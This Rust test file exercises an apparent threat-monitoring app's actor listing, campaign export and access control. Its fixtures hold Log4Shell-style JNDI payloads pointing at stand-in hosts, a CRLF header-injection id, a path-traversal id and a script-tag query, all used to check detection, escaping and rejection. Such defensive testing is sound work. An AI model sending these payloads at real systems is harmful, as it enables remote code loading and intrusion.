//! The pages of the watch: the actors, and who may see them.

use relight_engine::watch::Feed;

use crate::door_support::{START, World, clock, person, token};

/// 2021-12-10, when everything in these tests happens.
const DAY: &str = "10/Dec/2021";

/// A register in whose logs so many addresses tried a payload at `care`, and one at `power`.
fn start(now: fn() -> i64, addresses: usize) -> (World, String) {
    let mut analyst = String::new();
    let world = World::start(now, |store| analyst = person(store, "anna", 1, &[("analyst", "/")]));
    let line = |address: String, minute: usize| {
        format!(
            "{address} - - [{DAY}:12:{minute:02}:00 +0000] \"GET /?q=${{jndi:ldap://x.test/a}} \
             HTTP/1.1\" 200 12 \"-\" \"<b>agent</b>\"\n"
        )
    };
    let many: String = (0..addresses).map(|at| line(format!("192.0.2.{at}"), at % 60)).collect();
    for (slug, lines) in [("care", many), ("power", line("203.0.113.9".into(), 30))] {
        let sites = world.store.sites().unwrap();
        let site = sites.into_iter().find(|site| site.slug.as_str() == slug).unwrap();
        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
        world.engine.ingest_log(&feed, std::io::Cursor::new(lines)).unwrap();
    }
    (world, analyst)
}

/// The rows of a page.
fn rows(page: &str) -> Vec<&str> {
    page.split("<tr><th scope=\"row\">")
        .skip(1)
        .map(|it| it.split("</tr>").next().unwrap())
        .collect()
}

#[test]
fn actors_are_listed_and_filtered_within_the_limit_of_rows() {
    clock!(now, now_set);
    now_set(START);
    let (world, analyst) = start(now, 130);
    let get = |query: &str| {
        let (status, _, page) = world.get(&format!("/watch/actors?lang=en{query}"), &analyst);
        assert_eq!(status, 200, "{query}: {page}");
        page
    };
    let page = get("");
    assert!(page.contains("131 actors") && page.contains("Page 1 of 2"), "{page}");
    assert_eq!(rows(&page).len(), 100);
    assert_eq!(rows(&get("&page=2")).len(), 31);
    assert!(page.contains("&#38;page=2\" rel=\"next\""), "{page}");
    for (query, count) in [
        ("&q=192.0.2.12", 11),
        ("&q=203.0.113.9", 1),
        ("&q=203.0.113.9&sector=energy", 1),
        ("&q=203.0.113.9&sector=health", 0),
        ("&sector=energy", 1),
        ("&state=S5", 0),
        ("&from=2021-12-10&to=2021-12-10&q=203.", 1),
        ("&from=2021-12-11", 0),
        ("&to=2021-12-09", 0),
        ("&q=%3Cscript%3E", 0),
    ] {
        let page = get(query);
        assert_eq!(rows(&page).len(), count, "{query}: {page}");
        assert!(!page.contains("<script>") && !page.contains("<b>agent"), "{page}");
        assert_eq!(page.contains("No actor fits."), count == 0, "{query}");
    }
    let page = get("&sector=energy");
    let row = rows(&page)[0];
    for part in ["<code>203.0.113.9</code>", "2021-12-10", ">Energy<"] {
        assert!(row.contains(part), "{part}: {row}");
    }
    // A row leads to its campaign, however many are newer, and to no other.
    let href = row.split("href=\"").nth(1).unwrap().split('"').next().unwrap();
    let href = href.replace("&#38;", "&");
    let id = href.strip_prefix("/watch?lang=en&q=").unwrap().to_owned();
    let (_, _, alone) = world.get(&href, &analyst);
    assert!(alone.contains(&id), "{alone}");
    assert!(alone.contains("<span>1 campaign</span>"), "{alone}");
    let other = format!("href=\"/watch?lang=fr&#38;from=&#38;to=&#38;q={id}\"");
    assert!(alone.contains(&other), "{alone}");
    let (_, _, none) = world.get("/watch?lang=en&q=C-NOBODY", &analyst);
    assert!(none.contains("<span>0 campaigns</span>"), "{none}");
    // The page of campaigns leads there with its days, and both say what it is not.
    let (_, _, watch) = world.get("/watch?lang=en&from=2021-12-01", &analyst);
    let link = "href=\"/watch/actors?lang=en&#38;from=2021-12-01&#38;to=\"";
    assert!(watch.contains(link), "{watch}");
    assert!(page.contains("Reconnaissance is not"), "{page}");
    world.web.stop();
}

/// Goal: what leaves is a file under a name of ours. Method: each form of a campaign, and ids that
/// would write another head.
#[test]
fn a_campaign_leaves_as_a_file_with_its_own_name() {
    clock!(now, now_set);
    now_set(START);
    let (world, analyst) = start(now, 1);
    let page = world.get("/watch?lang=en", &analyst).2;
    let id = page.split("name=\"id\" value=\"").nth(1).unwrap().split('"').next().unwrap();
    let own = token(&page);
    let leave = |id: &str, format: &str| {
        let form = format!("token={own}&id={id}&format={format}&purpose=CERT");
        world.post_raw("/watch/export?lang=en", &analyst, &form)
    };
    for (format, kind, end) in [
        ("stix", "application/stix+json;version=2.1", "stix.json"),
        ("misp", "application/json", "misp.json"),
        ("csv", "text/csv; charset=utf-8", "csv"),
        ("blocklist", "text/plain; charset=utf-8", "blocklist.txt"),
    ] {
        let (status, head, _) = leave(id, format);
        assert_eq!(status, 200, "{format}: {head}");
        let name = format!("content-disposition: attachment; filename=\"{id}.{end}\"\r\n");
        assert!(head.contains(&name), "{format}: {head}");
        assert!(head.contains(&format!("content-type: {kind}\r\n")), "{format}: {head}");
        assert!(head.contains("x-content-type-options: nosniff\r\n"), "{format}: {head}");
    }
    for id in ["C-NOBODY", "%22%0D%0AX-Evil:%201", "..%2F..%2Fkey"] {
        let (status, head, _) = leave(id, "stix");
        assert!(status == 404 && !head.contains("attachment"), "{id}: {head}");
        assert!(!head.contains("X-Evil"), "{id}: {head}");
    }
    assert_eq!(world.store.watch_notes().unwrap().len(), 4, "what left is noted");
    world.web.stop();
}

/// Goal: nobody is shown campaigns of before. Method: lines come between two looks at the page.
#[test]
fn a_campaign_that_comes_is_on_the_next_page() {
    clock!(now, now_set);
    now_set(START);
    let (world, analyst) = start(now, 1);
    let rows = || rows(&world.get("/watch/actors?lang=en", &analyst).2).len();
    let before = rows();
    assert_eq!(rows(), before);
    let line = format!(
        "203.0.113.77 - - [{DAY}:13:00:00 +0000] \"GET /?q=${{jndi:ldap://y.test/a}} HTTP/1.1\" \
         200 12 \"-\" \"-\"\n"
    );
    let site = world.store.sites().unwrap().remove(0);
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
    assert_eq!(rows(), before + 1);
    world.web.stop();
}

#[test]
fn whoever_reads_a_part_of_the_register_sees_no_actor() {
    clock!(now, now_set);
    now_set(START);
    let mut owner = String::new();
    let world = World::start(now, |store| {
        owner = person(store, "owner", 1, &[("site-owner", "health/Hospital")]);
    });
    assert_eq!(world.get("/watch/actors", &owner).0, 403);
    assert_eq!(world.get("/watch/actors", "").0, 303);
    world.web.stop();
}
